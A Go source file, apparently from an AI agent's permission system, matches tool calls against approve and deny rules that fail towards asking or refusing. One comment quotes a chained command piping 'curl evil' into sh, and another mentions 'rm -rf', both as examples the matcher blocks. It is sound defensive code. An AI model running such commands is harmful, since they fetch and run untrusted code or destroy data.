package permissions

import (
	"encoding/json"
	"fmt"
	"path"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"unicode/utf8"
)

// Rule selects tool calls. Under Policy.ApproveWhen a matching call runs without a human
// (under ask and approve); under Policy.DenyWhen a matching call is refused (in every
// mode). Whatever a rule cannot settle counts against the call: an approve_when rule does
// not pre-approve it (a human is asked), a deny_when rule refuses it. So a rule that is
// wrong in a way the policy cannot detect fails towards asking or refusing, never towards
// running.
//
// This inverts Nexo, whose approve_when/ask_when predicate selected the calls that DO need
// a human and let every other call through; a declarative list in that sense fails open
// (one narrow rule would auto-allow every other capability), so here the list names what is
// safe instead.
//
// Matching: Capability must equal the call's; Tool, when set, is a pattern over the call's
// tool name; Detail, when set, is a pattern over the call's detail; every entry of Args is
// a pattern over the named argument, every entry of ArgsRegex a regular expression over
// it. All that is set must match. Patterns match the whole string and know "*" and "?"
// (and "\" to escape); what they may span depends on the capability:
//
//   - read, glob, write: the detail (and an argument) is a workspace path, cleaned first
//     ("a/../b" is "b", "/workspace/b" is "b"; a path that climbs above the workspace
//     cannot be settled); "*" and "?" stay within one path segment, "**" spans segments,
//     and "**/" may match no directory ("docs/**" matches everything under docs, "**/*.md"
//     every Markdown file);
//   - shell: the command, trimmed; "*" and "?" never match a shell control character
//     (; & | < > $ ` ( ) newline), so "go test *" matches "go test ./..." but not
//     "go test ./... && curl evil | sh" — the model cannot chain its way past a rule;
//   - fetch, search, mcp, and Tool patterns: "*" and "?" match any characters; an
//     argument with a ".." path segment cannot be settled by an Args pattern (it may name
//     a path outside what the pattern means).
//
// ArgsRegex entries are Go regular expressions (RE2 syntax, linear time), unanchored as
// in grep: anchor them with ^ and $ to match the whole argument. An argument that is a
// number or a boolean is matched as its JSON text ("60", "true"); one that is missing does
// not match; null, an object or an array cannot be settled.
//
// A detail or an argument longer than 8192 characters cannot be settled by a pattern (the
// matcher's work is bounded); regular expressions take any length.
type Rule struct {
	// Capability the rule covers; required.
	Capability Capability `json:"capability" mapstructure:"capability" yaml:"capability"`
	// Tool is a pattern over the tool name (e.g. "github_*" for MCP); empty matches any.
	Tool string `json:"tool,omitempty" mapstructure:"tool" yaml:"tool"`
	// Detail is a pattern over the call's detail (e.g. "go test *", "docs/**"); empty
	// matches any.
	Detail string `json:"detail,omitempty" mapstructure:"detail" yaml:"detail"`
	// Args maps an argument name to a pattern over that argument (e.g. path: "drafts/**").
	Args map[string]string `json:"args,omitempty" mapstructure:"args" yaml:"args"`
	// ArgsRegex maps an argument name to a regular expression over that argument (e.g.
	// command: '^go test \./\.\.\.$').
	ArgsRegex map[string]string `json:"args_regex,omitempty" mapstructure:"args_regex" yaml:"args_regex"`
	// Reason is told with the decision the rule makes (for deny_when, to the model): e.g.
	// "never rm -rf". Empty names the rule instead.
	Reason string `json:"reason,omitempty" mapstructure:"reason" yaml:"reason"`
	// ApprovalTimeout, on an approve_when rule, turns the rule from "runs without a human"
	// into "runs when a human approves, or when nobody decided within this long": a
	// matching call needs approval with this deadline (overriding the policy's), and
	// OnTimeout says what happens then. Not allowed on deny_when rules.
	ApprovalTimeout string `json:"approval_timeout,omitempty" mapstructure:"approval_timeout" yaml:"approval_timeout"`
	// OnTimeout is the action when the rule's ApprovalTimeout passes (deny, approve,
	// escalate); empty means deny.
	OnTimeout OnTimeout `json:"on_timeout,omitempty" mapstructure:"on_timeout" yaml:"on_timeout"`
}

// outcome is what matching a rule against a call settled.
type outcome int

const (
	noMatch outcome = iota
	matched
	// unsure: the rule could not be checked against the call (an argument too long, of
	// the wrong shape, a path that leaves the workspace, a rule that does not parse).
	// approve_when treats it as no match, deny_when as a match.
	unsure
)

// check is a rule's outcome against a call and, when unsure, why.
type check struct {
	outcome outcome
	why     string
}

func (k check) and(o check) check {
	switch {
	case k.outcome == noMatch || o.outcome == noMatch:
		return check{outcome: noMatch}
	case k.outcome == unsure:
		return k
	}
	return o
}

// maxMatchDetail bounds the detail a pattern is matched against, which bounds the
// matcher's work (O(len(pattern)·len(detail))).
const maxMatchDetail = 8192

// shellControl lists the characters a shell pattern's wildcards never match.
const shellControl = ";&|<>$`()\n\r\x00"

// Matches reports whether the rule surely covers c (what an approve_when rule needs). A
// rule with an unknown capability or a malformed pattern matches nothing.
func (r Rule) Matches(c Call) bool { return r.check(c).outcome == matched }

func (r Rule) check(c Call) check {
	if r.Capability != c.Capability || !r.Capability.known() {
		return check{outcome: noMatch}
	}
	// A rule without args decides exactly as rules did before args existed (recorded runs
	// replay the same decisions), so the whole rule is not validated here: deny_when
	// validates its rules itself (see denied).
	if r.Tool != "" && !wildcard(r.Tool, c.Tool, anyChar) {
		return check{outcome: noMatch}
	}
	k := check{outcome: matched}
	if r.Detail != "" {
		k = k.and(r.globDetail(c.Detail))
	}
	for _, name := range sortedKeys(r.Args) {
		k = k.and(r.globArg(name, r.Args[name], c.Args))
	}
	for _, name := range sortedKeys(r.ArgsRegex) {
		k = k.and(regexArg(name, r.ArgsRegex[name], c.Args))
	}
	return k
}

// globDetail matches the rule's Detail pattern, the way rules always have.
func (r Rule) globDetail(detail string) check {
	if utf8.RuneCountInString(detail) > maxMatchDetail {
		return check{outcome: unsure, why: fmt.Sprintf("the detail is longer than %d characters", maxMatchDetail)}
	}
	switch r.Capability {
	case CapRead, CapGlob, CapWrite:
		pat, ok := workspacePath(r.Detail)
		if !ok {
			return check{outcome: unsure, why: fmt.Sprintf("the path pattern %q leaves the workspace", r.Detail)}
		}
		d, ok := workspacePath(detail)
		if !ok {
			return check{outcome: unsure, why: "the path is empty or leaves the workspace"}
		}
		return matchedIf(wildcard(pat, d, pathChars))
	case CapShell:
		return matchedIf(wildcard(strings.TrimSpace(r.Detail), strings.TrimSpace(detail), shellChars))
	default:
		return matchedIf(wildcard(r.Detail, detail, anyChar))
	}
}

// globArg matches pattern against argument name of args, with the capability's wildcards.
func (r Rule) globArg(name, pattern string, args map[string]any) check {
	if err := validGlob(r.Capability, pattern, true); err != nil || pattern == "" {
		return check{outcome: unsure, why: fmt.Sprintf("args.%s is not a valid pattern", name)}
	}
	v, k := argText(name, args)
	if k.outcome != matched {
		return k
	}
	if utf8.RuneCountInString(v) > maxMatchDetail {
		return check{outcome: unsure, why: fmt.Sprintf("argument %q is longer than %d characters", name, maxMatchDetail)}
	}
	switch r.Capability {
	case CapRead, CapGlob, CapWrite:
		pat, _ := workspacePath(pattern) // checked by validGlob above
		p, ok := workspacePath(v)
		if !ok {
			return check{outcome: unsure, why: fmt.Sprintf("argument %q is empty or leaves the workspace", name)}
		}
		return matchedIf(wildcard(pat, p, pathChars))
	case CapShell:
		return matchedIf(wildcard(strings.TrimSpace(pattern), strings.TrimSpace(v), shellChars))
	default:
		if slices.Contains(strings.Split(v, "/"), "..") {
			return check{outcome: unsure, why: fmt.Sprintf("argument %q has a \"..\" path segment", name)}
		}
		return matchedIf(wildcard(pattern, v, anyChar))
	}
}

// regexArg matches the regular expression expr against argument name of args.
func regexArg(name, expr string, args map[string]any) check {
	re, err := regexp.Compile(expr)
	if err != nil || expr == "" { // Validate refuses it; a Go caller may skip Validate
		return check{outcome: unsure, why: fmt.Sprintf("args_regex.%s is not a valid regular expression", name)}
	}
	v, k := argText(name, args)
	if k.outcome != matched {
		return k
	}
	return matchedIf(re.MatchString(v))
}

// argText is the text a rule matches of argument name: a string as it is, a number or a
// boolean as its JSON text. A missing argument is no match; null, an object or an array
// cannot be settled.
func argText(name string, args map[string]any) (string, check) {
	v, ok := args[name]
	if !ok {
		return "", check{outcome: noMatch}
	}
	switch x := v.(type) {
	case string:
		return x, check{outcome: matched}
	case bool:
		return strconv.FormatBool(x), check{outcome: matched}
	case float64:
		return strconv.FormatFloat(x, 'f', -1, 64), check{outcome: matched}
	case float32:
		return strconv.FormatFloat(float64(x), 'f', -1, 32), check{outcome: matched}
	case int, int8, int16, int32, int64, uint, uint8, uint16, uint32, uint64:
		return fmt.Sprint(x), check{outcome: matched}
	case json.Number: // args decoded with UseNumber
		return string(x), check{outcome: matched}
	}
	what := "null"
	if v != nil {
		what = fmt.Sprintf("a %T", v)
		switch v.(type) {
		case map[string]any:
			what = "an object"
		case []any:
			what = "an array"
		}
	}
	return "", check{outcome: unsure, why: fmt.Sprintf("argument %q is %s, not a string, number or boolean", name, what)}
}

func matchedIf(ok bool) check {
	if ok {
		return check{outcome: matched}
	}
	return check{outcome: noMatch}
}

func sortedKeys(m map[string]string) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	slices.Sort(keys)
	return keys
}

// String renders the rule for reasons: `shell "go test *"`, `mcp tool "github_*"`,
// `write path "drafts/**"`, `shell command =~ "^go test"`.
func (r Rule) String() string {
	s := string(r.Capability)
	if r.Tool != "" {
		s += fmt.Sprintf(" tool %q", r.Tool)
	}
	if r.Detail != "" {
		s += fmt.Sprintf(" %q", r.Detail)
	}
	for _, name := range sortedKeys(r.Args) {
		s += fmt.Sprintf(" %s %q", name, r.Args[name])
	}
	for _, name := range sortedKeys(r.ArgsRegex) {
		s += fmt.Sprintf(" %s =~ %q", name, r.ArgsRegex[name])
	}
	return s
}

// validate names the first bad field of the rule (without the "approve_when[i]." prefix).
func (r Rule) validate() error {
	if r.Capability == "" {
		return fmt.Errorf("capability: %w: required", ErrInvalidPolicy)
	}
	if _, err := ParseCapability(string(r.Capability)); err != nil {
		return fmt.Errorf("capability: %w", err)
	}
	if err := validGlob(r.Capability, r.Tool, false); err != nil {
		return fmt.Errorf("tool: %w", err)
	}
	if err := validGlob(r.Capability, r.Detail, true); err != nil {
		return fmt.Errorf("detail: %w", err)
	}
	for _, name := range sortedKeys(r.Args) {
		if strings.TrimSpace(name) == "" {
			return fmt.Errorf("args: %w: an empty argument name", ErrInvalidPolicy)
		}
		pat := r.Args[name]
		if pat == "" {
			return fmt.Errorf("args.%s: %w: empty pattern (leave the argument out to match any value)", name, ErrInvalidPolicy)
		}
		if err := validGlob(r.Capability, pat, true); err != nil {
			return fmt.Errorf("args.%s: %w", name, err)
		}
	}
	for _, name := range sortedKeys(r.ArgsRegex) {
		if strings.TrimSpace(name) == "" {
			return fmt.Errorf("args_regex: %w: an empty argument name", ErrInvalidPolicy)
		}
		expr := r.ArgsRegex[name]
		if expr == "" {
			return fmt.Errorf("args_regex.%s: %w: empty regular expression (leave the argument out to match any value)", name, ErrInvalidPolicy)
		}
		if _, err := regexp.Compile(expr); err != nil {
			return fmt.Errorf("args_regex.%s: %w: regular expression %q does not parse: %v", name, ErrInvalidPolicy, expr, err)
		}
	}
	return nil
}

// validGlob checks a pattern; path patterns (detail and args of read, glob and write) must
// stay inside the workspace.
func validGlob(c Capability, pattern string, pathLike bool) error {
	if strings.HasSuffix(strings.ReplaceAll(pattern, `\\`, ""), `\`) {
		return fmt.Errorf("%w: pattern %q ends with an unfinished escape", ErrInvalidPolicy, pattern)
	}
	switch c {
	case CapRead, CapGlob, CapWrite:
		if pathLike && pattern != "" {
			if p, ok := workspacePath(pattern); !ok || path.IsAbs(p) {
				return fmt.Errorf("%w: path pattern %q must stay inside the workspace (relative, or under /workspace)", ErrInvalidPolicy, pattern)
			}
		}
	}
	return nil
}

// workspacePath cleans a path (or path pattern) the way the sandbox does: "/workspace/x" is
// "x", dot segments are resolved. ok is false for a path that climbs above the workspace,
// an empty one, or one with a NUL byte.
func workspacePath(p string) (string, bool) {
	if p == "" || strings.IndexByte(p, 0) >= 0 {
		return "", false
	}
	if p == "/workspace" || strings.HasPrefix(p, "/workspace/") {
		p = "./" + strings.TrimPrefix(p, "/workspace")
	}
	c := path.Clean(p)
	if c == ".." || strings.HasPrefix(c, "../") {
		return "", false
	}
	return c, true
}

// charClass says which characters a wildcard may match.
type charClass int

const (
	anyChar    charClass = iota // everything
	pathChars                   // "*" and "?" not "/", "**" everything
	shellChars                  // nothing in shellControl, for "*", "**" and "?"
)

func (k charClass) spans(r rune, double bool) bool {
	switch k {
	case pathChars:
		return double || r != '/'
	case shellChars:
		return !strings.ContainsRune(shellControl, r)
	}
	return true
}

// wildcard reports whether pattern matches all of s. Memoised over (pattern position,
// subject position), so it is O(len(pattern)·len(s)) however many stars the pattern has.
func wildcard(pattern, s string, k charClass) bool {
	p, t := []rune(pattern), []rune(s)
	width := len(t) + 1
	memo := make([]int8, (len(p)+1)*width) // 0 unknown, 1 match, 2 no match
	var m func(i, j int) bool
	m = func(i, j int) bool {
		key := i*width + j
		if memo[key] != 0 {
			return memo[key] == 1
		}
		ok := false
		switch {
		case i == len(p):
			ok = j == len(t)
		case p[i] == '*':
			double := i+1 < len(p) && p[i+1] == '*'
			next := i + 1
			if double {
				next = i + 2
			}
			// "**/" at the start of a segment may match no directory at all.
			zeroDirs := k == pathChars && double && next < len(p) && p[next] == '/' && (i == 0 || p[i-1] == '/')
			// Either the star matches nothing more, or it takes one more character and
			// stays at i: O(1) per state.
			ok = (zeroDirs && m(next+1, j)) || m(next, j) ||
				(j < len(t) && k.spans(t[j], double) && m(i, j+1))
		case p[i] == '?':
			ok = j < len(t) && k.spans(t[j], false) && m(i+1, j+1)
		case p[i] == '\\' && i+1 < len(p):
			ok = j < len(t) && t[j] == p[i+1] && m(i+2, j+1)
		default:
			ok = j < len(t) && t[j] == p[i] && m(i+1, j+1)
		}
		if ok {
			memo[key] = 1
		} else {
			memo[key] = 2
		}
		return ok
	}
	return m(0, 0)
}
